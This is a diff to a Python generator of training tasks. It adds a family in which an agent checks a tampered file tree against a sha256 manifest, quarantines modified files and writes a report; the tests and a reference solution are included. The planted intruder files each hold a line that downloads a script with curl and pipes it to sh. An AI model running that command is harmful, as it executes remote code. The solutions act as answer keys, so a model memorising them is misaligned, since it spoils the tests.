@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import hashlib
+import io
+import json
 import random
 
 from .base import Family, Instance
@@ -196,6 +200,10 @@ legitimate input still gives the right answer."""
 
 import json
 import os
+import csv
+import hashlib
+import io
+import json
 import random
 import subprocess
 import tempfile
@@ -464,3 +472,201 @@ databases and input than the samples here. Only the Python standard library is a
 FAMILIES.append(Family("inject-fix", "security", "test",
                        "close path-traversal, SQL, shell and eval injection holes in a small CLI; "
                        "hidden payloads and legitimate awkward input on hidden fixtures", _inject_fix))
+
+# ------------------------------------------------------------------ manifest-verify
+# A release tree and its sha256 manifest (one of four formats); some files were modified, some are
+# missing, some were added. Modified files go to quarantine, or are restored from a backup when the
+# backup's copy matches the manifest. The tests hold the expected hashes.
+
+_MV_FORMATS = {
+    "gnu": "the output format of `sha256sum`: `HASH  PATH` (two spaces; a `*` before PATH marks "
+           "binary mode and is not part of the path)",
+    "bsd": "the BSD tag format of `sha256sum --tag`: `SHA256 (PATH) = HASH`",
+    "json": 'a JSON object `{"algorithm": "sha256", "files": [{"path": ..., "size": ..., "sha256": ...}]}`',
+    "csv": "CSV with the header `path,bytes,sha256` (paths with commas or spaces are quoted)",
+}
+
+_MV_TESTS = '''"""Checks the tree, the quarantine and the report against the hashes the tests keep."""
+
+import hashlib
+import json
+from pathlib import Path
+
+import pytest
+
+EXP = json.loads(Path(__file__).with_name("expected.json").read_text())
+TREE = Path(EXP["tree"])
+QUAR = Path("/app/quarantine")
+
+
+def sha(p):
+    return hashlib.sha256(p.read_bytes()).hexdigest()
+
+
+@pytest.mark.weight(2)
+def test_report():
+    got = json.loads(Path("/app/integrity_report.json").read_text())
+    for key in ("modified", "missing", "unexpected", "restored"):
+        assert sorted(got.get(key, [])) == EXP["report"][key], f"wrong list {key!r}"
+
+
+@pytest.mark.weight(2)
+def test_quarantine():
+    for rel, h in EXP["quarantined"].items():
+        assert (QUAR / rel).is_file() and sha(QUAR / rel) == h, f"{rel} not quarantined as it was"
+        assert not (TREE / rel).exists(), f"{rel} is still in the tree"
+    files = sorted(str(p.relative_to(QUAR)) for p in QUAR.rglob("*") if p.is_file())
+    assert files == sorted(EXP["quarantined"]), "the quarantine holds other files"
+
+
+@pytest.mark.weight(1)
+def test_tree():
+    files = sorted(str(p.relative_to(TREE)) for p in TREE.rglob("*") if p.is_file())
+    assert files == sorted(EXP["tree_files"]), "the tree does not hold the expected files"
+    for rel, h in EXP["tree_files"].items():
+        assert sha(TREE / rel) == h, f"{rel} does not have the expected content"
+'''
+
+
+def _manifest_verify(rng: random.Random, index: int) -> Instance:
+    fmt = rng.choice(sorted(_MV_FORMATS))
+    restore = rng.random() < 0.45
+    odd = rng.random() < 0.5
+    tree = rng.choice(["release", "site", "firmware", "bundle"])
+    dirs = ["", "bin/", "lib/", "share/doc/", "conf/"]
+    stems = ["core", "util", "index", "readme", "boot", "main", "style", "logo", "init", "data"]
+    if odd:
+        stems += ["release notes", "a,b", "über"]
+    names = set()
+    while len(names) < rng.randint(14, 22):
+        stem = rng.choice(stems)
+        names.add(f"{rng.choice(dirs)}{stem}{rng.randint(1, 99)}.{rng.choice(['txt', 'bin', 'cfg', 'js'])}")
+    names = sorted(names)
+    orig = {}
+    for n in names:
+        if n.endswith(".bin"):
+            orig[n] = bytes(rng.randint(0, 255) for _ in range(rng.randint(40, 300)))
+        else:
+            orig[n] = "".join(f"{rng.choice(stems)} = {rng.randint(0, 9999)}\n"
+                              for _ in range(rng.randint(2, 12))).encode()
+    h = {n: hashlib.sha256(b).hexdigest() for n, b in orig.items()}
+    picked = rng.sample(names, 7)
+    modified, missing = sorted(picked[:4]), sorted(picked[4:6])
+    unexpected = sorted({f"{rng.choice(dirs)}extra{rng.randint(1, 9)}.sh" for _ in range(2)})
+    cur = {n: b for n, b in orig.items() if n not in missing}
+    for n in modified:
+        b = bytearray(cur[n])
+        b[rng.randrange(len(b))] ^= 1 << rng.randrange(8)  # same size, one bit flipped
+        cur[n] = bytes(b)
+    for n in unexpected:
+        cur[n] = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
+    backup, restored = {}, []
+    if restore:
+        kinds = ["none", "corrupt", "good", rng.choice(["good", "corrupt", "none"])]
+        rng.shuffle(kinds)
+        for n, kind in zip(modified, kinds):
+            if kind != "none":
+                backup[n] = orig[n] if kind == "good" else orig[n][:-1] + b"#"
+            restored += [n] if kind == "good" else []
+    quarantined = {n: hashlib.sha256(cur[n]).hexdigest() for n in modified if n not in restored}
+    tree_files = {n: hashlib.sha256(b).hexdigest() for n, b in cur.items() if n not in quarantined}
+    tree_files.update({n: h[n] for n in restored})
+    rows = [(n, len(orig[n]), h[n]) for n in names]
+    rng.shuffle(rows)
+    if fmt == "gnu":
+        man = "".join(f"{d}  {'*' if n.endswith('.bin') else ''}{n}\n" for n, _, d in rows)
+    elif fmt == "bsd":
+        man = "".join(f"SHA256 ({n}) = {d}\n" for n, _, d in rows)
+    elif fmt == "json":
+        man = json.dumps({"algorithm": "sha256", "files": [{"path": n, "size": s, "sha256": d}
+                                                              for n, s, d in rows]}, indent=1)
+    else:
+        buf = io.StringIO()
+        w = csv.writer(buf, lineterminator="\n")
+        w.writerow(["path", "bytes", "sha256"])
+        w.writerows(rows)
+        man = buf.getvalue()
+    files: dict[str, str | bytes] = {f"{tree}/{n}": b for n, b in cur.items()}
+    files[f"MANIFEST.{ 'json' if fmt == 'json' else 'csv' if fmt == 'csv' else 'sha256'}"] = man
+    mname = next(k for k in files if k.startswith("MANIFEST"))
+    files.update({f"backup/{n}": b for n, b in backup.items()})
+    restore_text = (
+        "\n\nA modified file that has a copy under `/app/backup/` (same relative path) whose sha256 "
+        "matches the manifest is restored instead: put the backup's copy in its place and list it "
+        "under `restored`, not under `modified`; a modified file whose backup copy does not match "
+        "is quarantined like any other." if restore else "")
+    instruction = f"""\
+`/app/{tree}/` is a deployed tree and `/app/{mname}` its manifest, in {_MV_FORMATS[fmt]}. Paths in
+the manifest are relative to `/app/{tree}/`. Someone has tampered with the tree.
+
+Verify the tree against the manifest:
+- a file listed in the manifest whose sha256 differs is *modified*: move it to `/app/quarantine/`,
+  keeping its path relative to the tree (`/app/{tree}/lib/x.txt` goes to
+  `/app/quarantine/lib/x.txt`), byte for byte;
+- a listed file that is absent is *missing*;
+- a file in the tree that the manifest does not list is *unexpected*: leave it where it is.{restore_text}
+
+Write `/app/integrity_report.json`: an object with the keys `modified`, `missing`, `unexpected`
+and `restored` (always present), each a sorted list of paths relative to the tree. Do not change
+any other file of the tree.
+"""
+    expected = {"tree": f"/app/{tree}", "quarantined": quarantined, "tree_files": tree_files,
+                "report": {"modified": sorted(quarantined), "missing": missing,
+                           "unexpected": unexpected, "restored": sorted(restored)}}
+    solution = f"""cat > /tmp/verify.py <<'PY_EOF'
+import csv, hashlib, io, json, os, re, shutil
+from pathlib import Path
+tree, man = Path("/app/{tree}"), Path("/app/{mname}").read_text(encoding="utf-8")
+want = {{}}
+if "{fmt}" == "gnu":
+    for line in man.splitlines():
+        d, rest = line[:64], line[66:]
+        want[rest[1:] if rest.startswith("*") else rest] = d
+elif "{fmt}" == "bsd":
+    for line in man.splitlines():
+        m = re.fullmatch(r"SHA256 \\((.*)\\) = ([0-9a-f]{{64}})", line)
+        want[m[1]] = m[2]
+elif "{fmt}" == "json":
+    want = {{f["path"]: f["sha256"] for f in json.loads(man)["files"]}}
+else:
+    want = {{r["path"]: r["sha256"] for r in csv.DictReader(io.StringIO(man))}}
+sha = lambda p: hashlib.sha256(p.read_bytes()).hexdigest()
+rep = {{"modified": [], "missing": [], "unexpected": [], "restored": []}}
+for p in sorted(tree.rglob("*")):
+    rel = str(p.relative_to(tree))
+    if p.is_file() and rel not in want:
+        rep["unexpected"].append(rel)
+for rel, d in sorted(want.items()):
+    p = tree / rel
+    if not p.is_file():
+        rep["missing"].append(rel)
+    elif sha(p) != d:
+        b = Path("/app/backup") / rel
+        if b.is_file() and sha(b) == d:
+            shutil.copyfile(b, p)
+            rep["restored"].append(rel)
+        else:
+            q = Path("/app/quarantine") / rel
+            q.parent.mkdir(parents=True, exist_ok=True)
+            shutil.move(str(p), str(q))
+            rep["modified"].append(rel)
+Path("/app/integrity_report.json").write_text(json.dumps(rep, indent=2))
+PY_EOF
+python3 /tmp/verify.py
+"""
+    steps = 1 + int(restore)
+    knowledge = 1 if fmt in ("gnu", "bsd") else 0
+    traps = int(odd) + int(restore)
+    total = steps + knowledge + traps
+    return Instance(
+        instruction=instruction, tests=_MV_TESTS, solution=solution,
+        difficulty="easy" if total <= 2 else "medium" if total <= 4 else "hard",
+        variant=f"{fmt}/{'restore' if restore else 'quarantine'}" + ("/odd-names" if odd else ""),
+        files=files, test_files={"expected.json": json.dumps(expected, indent=1)},
+        tags=("sha256", "integrity", fmt), oracle_turns=2,
+    )
+
+
+FAMILIES.append(Family("manifest-verify", "security", "train",
+                       "verify a tree against a sha256 manifest in one of four formats; quarantine "
+                       "modified files or restore them from a checked backup", _manifest_verify))
